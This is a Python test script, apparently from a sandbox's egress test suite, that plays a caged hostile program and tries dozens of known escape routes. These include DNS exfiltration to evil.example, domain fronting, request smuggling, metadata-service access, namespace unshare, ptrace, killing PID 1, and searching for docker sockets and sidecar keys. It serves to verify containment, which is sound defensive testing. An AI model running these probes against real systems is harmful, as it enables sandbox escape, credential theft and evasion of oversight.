"""A hostile program in a cage: tries every way out that is known, and prints what came of each as JSON.

    python3 escape.py '{"canary": PORT, "planted": PATH, "keys": FOLDER, "sidecar": PID}'

An outcome is a status line without its version, `closed`, the name of an error, or what was found.
"""
import ctypes
import errno
import json
import os
import socket
import ssl
import struct
import sys
import urllib.request

told = json.loads(sys.argv[1])
LIBC = ctypes.CDLL(None, use_errno=True)
OUT4, OUT6 = "203.0.113.7", "2001:db8:5::7"
ROWS = {}
# By machine: unshare, setns, ptrace, process_vm_readv; of all since 5.3 the numbers are one.
NUMBERS = {
    "x86_64": (272, 308, 101, 310),
    "aarch64": (97, 268, 117, 270),
}[os.uname().machine]
UNSHARE, SETNS, PTRACE, VM_READV = NUMBERS
IO_URING_SETUP, PIDFD_OPEN, CLONE3 = 425, 434, 435


def row(name):
    def keep(attempt):
        ROWS[name] = attempt
        return attempt

    return keep


def call(number, *arguments):
    if LIBC.syscall(number, *arguments) < 0:
        raise OSError(ctypes.get_errno(), "")
    return "done"


def said(s, words):
    """What is answered to these bytes, to the end of its first line."""
    s.sendall(words)
    heard = b""
    while b"\n" not in heard:
        piece = s.recv(4096)
        if not piece:
            break
        heard += piece
    line = heard.split(b"\r\n")[0].decode("latin1")
    return line.removeprefix("HTTP/1.1 ") or "closed"


def dial(address, port, family=socket.AF_INET, kind=socket.SOCK_STREAM, protocol=0):
    s = socket.socket(family, kind, protocol)
    s.settimeout(5)
    s.connect((address, port))
    return s


def get(host, path="/ok", more=""):
    return f"GET {path} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n{more}\r\n".encode()


def http(address, host, path="/ok", port=8080, family=socket.AF_INET, protocol=0):
    with dial(address, port, family, protocol=protocol) as s:
        return said(s, get(host, path))


def https(address, server_name, host, path="/ok", method="GET"):
    context = ssl._create_unverified_context()
    with context.wrap_socket(dial(address, 8443), server_hostname=server_name) as s:
        return said(s, get(host, path).replace(b"GET", method.encode(), 1))


def datagram(address, port, family=socket.AF_INET):
    with socket.socket(family, socket.SOCK_DGRAM) as s:
        s.sendto(b"out", (address, port))
    return "sent"


def opens(family, kind, protocol=0):
    socket.socket(family, kind, protocol).close()
    return "opened"


def question(kind, name=b"\x06secret\x04evil\x07example\x00"):
    return b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00" + name + bytes([0, kind, 0, 1])


def looked_up(answer):
    return f"code {answer[3] & 15}, {answer[7]} records"


# Before anything is opened here

@row("descriptors that were left open")
def _():
    # The listing itself is one, and gone when it is looked at again.
    listed = [int(fd) for fd in os.listdir("/proc/self/fd")]
    left = [fd for fd in listed if fd > 2 and os.path.exists(f"/proc/self/fd/{fd}")]
    return "none" if not left else str(left)


# What is permitted, so that a refusal means something

row("permitted by name")(lambda: http("world.example", "world.example:8080"))
row("permitted by name, another path")(lambda: http("world.example", "world.example:8080", "/no"))


# UDP, QUIC and other transports

row("UDP")(lambda: datagram(OUT4, 123))
row("UDP by IPv6")(lambda: datagram(OUT6, 123, socket.AF_INET6))
row("QUIC")(lambda: datagram(OUT4, 443))
row("QUIC by IPv6")(lambda: datagram(OUT6, 443, socket.AF_INET6))
row("UDP-Lite")(lambda: opens(socket.AF_INET, socket.SOCK_DGRAM, 136))
row("SCTP")(lambda: opens(socket.AF_INET, socket.SOCK_STREAM, 132))
row("MPTCP")(lambda: http(OUT4, OUT4 + ":8080", protocol=262))
row("ping")(lambda: opens(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP))
row("raw IPv4")(lambda: opens(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW))
row("raw IPv6")(lambda: opens(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6))
row("packet socket")(lambda: opens(socket.AF_PACKET, socket.SOCK_RAW, 0x0300))


@row("TCP fast open")
def _():
    with socket.socket() as s:
        s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVTIMEO, struct.pack("ll", 5, 0))
        s.sendto(get(OUT4 + ":8080"), 0x20000000, (OUT4, 8080))
        return said(s, b"")


@row("a mark that routes might know")
def _():
    with socket.socket() as s:
        s.setsockopt(socket.SOL_SOCKET, 36, 0x7071)
    return "set"


@row("a transparent socket of its own")
def _():
    with socket.socket() as s:
        s.setsockopt(socket.SOL_IP, 19, 1)
    return "set"


# Names

@row("a resolver of the world's")
def _():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(5)
        s.sendto(question(16), (OUT4, 53))
        return looked_up(s.recv(512))


@row("a resolver of the world's, by TCP")
def _():
    with dial(OUT4, 53) as s:
        s.sendall(struct.pack(">H", len(question(16))) + question(16))
        return looked_up(s.recv(512)[2:])


@row("addresses for HTTP/3 and ECH")
def _():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(5)
        s.sendto(question(65), (OUT4, 53))
        return looked_up(s.recv(512))


row("words in look-ups that are none")(lambda: datagram(OUT4, 53))
row("DNS over HTTPS")(lambda: https("dns.example", "dns.example", "dns.example:8443", "/dns-query", "POST"))
row("DNS over TLS")(lambda: said(dial(OUT4, 853), b"\x16\x03\x01\x00\x04\x02\x00\x00\x00"))
row("a name that leads to the sidecar's own network")(
    lambda: http("rebind.example", "rebind.example:8080")
)


# Addresses

row("an IPv4 address")(lambda: http(OUT4, OUT4 + ":8080"))
row("an IPv6 address")(lambda: http(OUT6, f"[{OUT6}]:8080", family=socket.AF_INET6))
row("an address that a permitted name has")(lambda: http(OUT4, "world.example:8080"))
row("IPv4 as IPv6")(lambda: http("::ffff:" + OUT4, OUT4 + ":8080", family=socket.AF_INET6))
row("IPv4 as IPv6, said in Host")(
    lambda: http("::ffff:" + OUT4, f"[::ffff:{OUT4}]:8080", family=socket.AF_INET6)
)
row("the metadata service")(lambda: http("169.254.169.254", "169.254.169.254", port=80))
row("the metadata service by IPv6")(
    lambda: http("fd00:ec2::254", "[fd00:ec2::254]", port=80, family=socket.AF_INET6)
)
row("the metadata service by a name")(lambda: http("world.example", "169.254.169.254:8080"))
row("the host's loopback")(lambda: http("127.0.0.1", "localhost", port=told["canary"]))
row("the host's loopback by IPv6")(
    lambda: http("::1", "localhost", port=told["canary"], family=socket.AF_INET6)
)
row("the host's loopback, by UDP, to whoever hears it")(lambda: datagram("127.0.0.1", told["canary"]))
row("the host's loopback through the sidecar")(
    lambda: http("world.example", f"localhost:{told['canary']}")
)
row("the host's own address")(lambda: http("10.97.0.2", f"10.97.0.2:{told['canary']}", port=told["canary"]))
row("the listener itself")(lambda: http("198.19.255.254", "198.19.255.254:15001", port=15001))


# What is said of where it goes

row("fronting: TLS for one, Host for another")(
    lambda: https("world.example", "world.example", "evil.example:8443")
)
row("fronting: dialled for one, TLS for another")(
    lambda: https("world.example", "evil.example", "evil.example:8443")
)
row("fronting: a permitted Host on a connection elsewhere")(
    lambda: http("evil.example", "world.example:8080")
)
row("two Hosts")(
    lambda: said(dial("world.example", 8080), get("world.example:8080", more="Host: evil.example\r\n"))
)
row("a target in full for another")(
    lambda: said(
        dial("world.example", 8080),
        get("world.example:8080", "http://evil.example:8080/ok"),
    )
)


@row("smuggling")
def _():
    words = get("world.example:8080", more="Content-Length: 4\r\nTransfer-Encoding: chunked\r\n")
    with dial("world.example", 8080) as s:
        return said(s, words + b"0\r\n\r\nGET /no HTTP/1.1\r\nHost: evil.example\r\n\r\n")


row("CONNECT")(
    lambda: said(
        dial("world.example", 8080),
        b"CONNECT evil.example:443 HTTP/1.1\r\nHost: evil.example:443\r\n\r\n",
    )
)
row("an upgrade to something else")(
    lambda: said(
        dial("world.example", 8080),
        get("world.example:8080", "/no", "Upgrade: raw\r\n").replace(b"n: close", b"n: upgrade"),
    )
)
row("bytes that are no protocol")(lambda: said(dial("world.example", 22), b"SSH-2.0-x\r\n"))
row("nothing at all, as who waits for a server's greeting")(lambda: said(dial(OUT4, 25), b""))


@row("without proxy variables")
def _():
    assert not [name for name in os.environ if name.lower().endswith("_proxy")]
    try:
        urllib.request.urlopen("http://evil.example:8080/ok", timeout=5)
    except urllib.error.HTTPError as refused:
        return f"{refused.code} {refused.reason}"


# Sockets that are no network's

row("a unix socket in the working directory")(lambda: unix(told["planted"]))
row("an abstract unix socket")(lambda: unix("\0dragons-canary"))
row("a pair of datagram sockets")(
    lambda: [s.close() for s in socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)] and "opened"
)
row("vsock")(lambda: opens(40, socket.SOCK_STREAM))
row("Bluetooth")(lambda: opens(31, socket.SOCK_RAW))
row("the kernel's crypto")(lambda: opens(38, socket.SOCK_SEQPACKET))
row("XDP")(lambda: opens(44, socket.SOCK_RAW))
row("netlink of the packet filter")(lambda: opens(socket.AF_NETLINK, socket.SOCK_RAW, 12))
row("io_uring")(lambda: call(IO_URING_SETUP, 1, 0))


def unix(path):
    with socket.socket(socket.AF_UNIX) as s:
        s.connect(path)
    return "reached"


@row("netlink of routes: the link set down")
def _():
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0) as s:
        # RTM_NEWLINK with an acknowledgement asked for: interface 1, IFF_UP taken away.
        s.send(struct.pack("=IHHII", 32, 16, 5, 1, 0) + struct.pack("=BxHiII", 0, 0, 1, 0, 1))
        answer = s.recv(1024)
        (code,) = struct.unpack_from("=i", answer, 16)
    return "done" if code == 0 else errno.errorcode[-code]


# Namespaces, processes, descriptors

row("a user namespace")(lambda: call(UNSHARE, 0x10000000))
row("a network namespace")(lambda: call(UNSHARE, 0x40000000))
row("a user namespace by clone3")(
    lambda: call(CLONE3, struct.pack("=8Q", 0x10000000, 0, 0, 0, 17, 0, 0, 0), 64)
)
row("another's network namespace")(lambda: enter("/proc/1/ns/net"))
row("tracing whoever is first")(lambda: call(PTRACE, 16, 1, 0, 0))
row("memory of whoever is first")(lambda: call(VM_READV, 1, 0, 0, 0, 0, 0))
row("a signal to the sidecar")(lambda: os.kill(told["sidecar"], 9) or "sent")
row("a descriptor of the sidecar")(lambda: call(PIDFD_OPEN, told["sidecar"], 0))
row("a signal to whoever is first")(lambda: os.kill(1, 9) or "sent")


def enter(path):
    fd = os.open(path, os.O_RDONLY)
    return call(SETNS, fd, 0)


@row("processes of the host in sight")
def _():
    pids = [int(name) for name in os.listdir("/proc") if name.isdigit()]
    return "none" if max(pids) < 50 and told["sidecar"] not in pids else str(sorted(pids))


@row("keys and state of the sidecar")
def _():
    found = os.listdir(told["keys"]) if os.path.exists(told["keys"]) else []
    return str(found) if found else "none"


@row("the docker socket, and others of the host's")
def _():
    places = ["/run", "/var/run", "/tmp"]
    found = [
        os.path.join(folder, name)
        for place in places
        for folder, _, names in os.walk(place)
        for name in names
        if name.endswith((".sock", ".socket")) and os.path.join(folder, name) != told["planted"]
    ]
    return str(found) if found else "none"


def outcome(attempt):
    try:
        return attempt()
    except socket.timeout:
        return "silence"
    except ssl.SSLError as error:
        return f"TLS: {error.reason}"
    except OSError as error:
        return errno.errorcode.get(error.errno, str(error))


print(json.dumps({name: outcome(attempt) for name, attempt in ROWS.items()}))
